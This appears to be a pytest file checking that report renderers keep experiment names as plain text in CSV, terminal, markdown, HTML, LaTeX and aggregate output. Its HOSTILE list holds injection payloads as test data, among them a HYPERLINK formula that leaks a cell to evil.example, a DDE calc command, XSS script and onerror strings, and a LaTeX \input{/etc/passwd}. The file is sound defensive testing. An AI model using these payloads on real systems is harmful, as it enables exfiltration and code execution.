"""Names that are formulas, markup or control sequences stay names, in every form."""

import csv
import dataclasses
import io
import json
import re
from html.parser import HTMLParser

import pytest
from report_examples import make_plan, make_predictions, make_records
from rich.cells import cell_len

from orchestrator.analysis.aggregate import aggregate
from orchestrator.analysis.summary import summarize
from orchestrator.records import ArmRecord
from orchestrator.report.files import render_aggregate
from orchestrator.report.render.formats import (
    csv_table,
    to_csv,
    to_markdown,
)
from orchestrator.report.render.latex import to_latex
from orchestrator.report.render.page import render_page
from orchestrator.report.render.text import render_text
from orchestrator.report.tables.table import Column, Table
from orchestrator.terminal.text import csv_text, markdown_text, visible
from orchestrator.tracking.sweep_views import drafts

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    "a|b",
    "*bold* and __strong__",
    "`code`",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/p.png)",
    "first\nsecond",
    "esc \x1b[31mred\x1b[0m",
    "back\rwards",
    "bidi \u202e drow",
    "isolate \u2066 x",
    "c1 \x9b31m",
    "\\input{/etc/passwd} $x$ %&#_{}~^",
    "&lt;b&gt;",
    "[red]markup[/red]",
    "[link=http://evil.example]:boom:[/]",
    "bell \x07 null \x00",
)
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def study(name):
    """A study whose first other arm, level, question, source and class have that name."""
    arms = (ArmRecord(name="plain"), ArmRecord(name=name, levels={"x": name}))
    plan = make_plan(arms, seeds=8, dose="", question=name, source=name)
    plan = dataclasses.replace(
        plan,
        arms=(*plan.arms[:1], dataclasses.replace(plan.arms[1], published={"val/top1": 80.0})),
        dataset={**plan.dataset, "class_names": [name, "a", "b", "c", "d", "e", "f", "g"]},
    )
    return plan, make_records(plan, (0.1,))


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_name_is_no_formula_in_csv_and_comes_back(name):
    plan, records = study(name)
    text = to_csv(summarize(plan, records))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    shown = rows[1]["arm"]
    assert shown.strip(" ")[0] not in "=+-@\t\r\n＝＋－＠"
    quoted = shown.startswith("'") and shown.lstrip("' ")[0] in "=+-@＝＋－＠"
    assert shown[quoted:] == visible(name)
    assert float(rows[1]["difference"]) > 0


def test_numbers_of_csv_are_not_touched():
    plan, records = study("=x")
    plan = dataclasses.replace(plan, baseline="=x", contrasts=())
    row = next(csv.DictReader(io.StringIO(to_csv(summarize(plan, records)))))
    assert row["difference"].startswith("-") and float(row["difference"]) < 0
    table = Table(
        columns=(Column(key="arm", title="=head"), Column(key="x", title="x", unit="%")),
        rows=(("-name", "+0.4 ±2.0"), ("b", "−1.5*"), ("c", "+12   ±3"), ("d", "=1+1")),
        baseline=-1,
        best=-1,
        notes=(),
        headings={0: "@rows"},
    )
    read = list(csv.reader(io.StringIO(csv_table(table))))
    assert read[0][1] == "'=head" and read[1][:2] == ["'@rows", "'-name"]
    assert [row[2] for row in read[1:]] == ["+0.4 ±2.0", "−1.5*", "+12   ±3", "'=1+1"]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_name_never_moves_a_terminal(name):
    plan, records = study(name)
    for width in (60, 80, 120):
        text = render_text(summarize(plan, records), width)
        assert not CONTROL.search(text)
        if name.isprintable():
            assert "".join(name.split()) in "".join(text.split())
    for line in text.splitlines():
        assert len(line) <= 120


@pytest.mark.parametrize("width", [80, 120])
def test_long_name_folds_and_nothing_of_it_is_cut(width):
    name = "[bold]" + "x" * 90 + " 基线" * 20
    plan, records = study(name)
    text = render_text(summarize(plan, records), width)
    # Every line of a folded cell, without the numbers that stand beside its first.
    kept = re.sub(r"[^x基线\[\]bold]", "", text)
    assert kept.count("[bold]" + "x" * 90 + "基线" * 20) >= 3 and "…" not in text
    assert max(cell_len(line) for line in text.splitlines()) <= width


def test_text_has_no_color_whatever_the_environment(monkeypatch):
    plan, records = study("plain text")
    plain = render_text(summarize(plan, records), 80)
    for name in ("FORCE_COLOR", "TTY_COMPATIBLE", "CLICOLOR_FORCE"):
        monkeypatch.setenv(name, "1")
    monkeypatch.setenv("COLUMNS", "40")
    assert render_text(summarize(plan, records), 80) == plain and "\x1b" not in plain


def unescaped(text, mark):
    return re.search(rf"(?<!\\)(?:\\\\)*{re.escape(mark)}", text)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_name_is_text_in_markdown_and_in_the_tracking_server(name):
    said = markdown_text(name)
    assert not any(unescaped(said, mark) for mark in "|*_<>[]`&~$") and "\n" not in said
    plan, records = study(name)
    text = to_markdown(summarize(plan, records))
    note = next(drafts(plan, records, store="s", final=True)).build().tags["mlflow.note.content"]
    for form in (text, note):
        assert said in form and not CONTROL.search(form.replace("\n", ""))
        assert said == name or name not in form
    assert (
        len({line.count("|") - line.count("\\|") for line in text.splitlines() if line[:1] == "|"})
        == 1
    )


class Tags(HTMLParser):
    """Collects what a browser would run or load."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        self.found += [tag] if tag in ("script", "img", "iframe", "b") else []
        self.found += [
            k
            for k, v in values.items()
            if k.startswith("on") or ("javascript:" in (v or "") and k in ("href", "src"))
        ]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_name_is_text_on_the_page(name):
    def tags(own):
        plan, records = study(own)
        parser = Tags()
        parser.feed(render_page(summarize(plan, records), records, predictions=make_predictions))
        return sorted(parser.found)

    assert tags(name) == tags("harmless")


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_name_is_text_in_latex(name):
    plan, records = study(name)
    text = to_latex(summarize(plan, records))
    assert not CONTROL.search(text.replace("\n", "")) and r"\input" not in text
    body = re.sub(r"\\[{}]", "", text)
    assert body.count("{") == body.count("}")
    assert set(re.findall(r"\\begin\{(\w+)", text)) <= {"table", "tabular", "tabularx"}
    for line in text.splitlines():
        assert not re.search(r"(?<!\\)%", line) or line.startswith("%") or line.endswith("%")


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_name_is_text_in_aggregates(name):
    one, other = study(name), study(name)
    other = (
        dataclasses.replace(
            other[0], dataset={"name": "b", "class_names": [*"abcdefgh"]}, sweep="b"
        ),
        other[1],
    )
    found = aggregate([one, other], mixed=True)
    assert not CONTROL.search(render_aggregate(found, "text").replace("\n", ""))
    assert markdown_text(name) in render_aggregate(found, "markdown")
    row = list(csv.DictReader(io.StringIO(render_aggregate(found, "csv"), newline="")))[1]
    assert row["arm"] == csv_text(name)
    assert json.loads(render_aggregate(found, "json"))["arms"][1]["arm"] == name


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\tb\r\nc", "a b  c"),
        ("\x1b[31m", "␛[31m"),
        ("\x7f\x9b\u202e\ufeff", "␡���"),
        ("λ=0.1 基线 é", "λ=0.1 基线 é"),
        ("👩\u200d🔬", "👩\u200d🔬"),
    ],
)
def test_visible_shows_what_would_steer(text, expected):
    assert visible(text) == expected
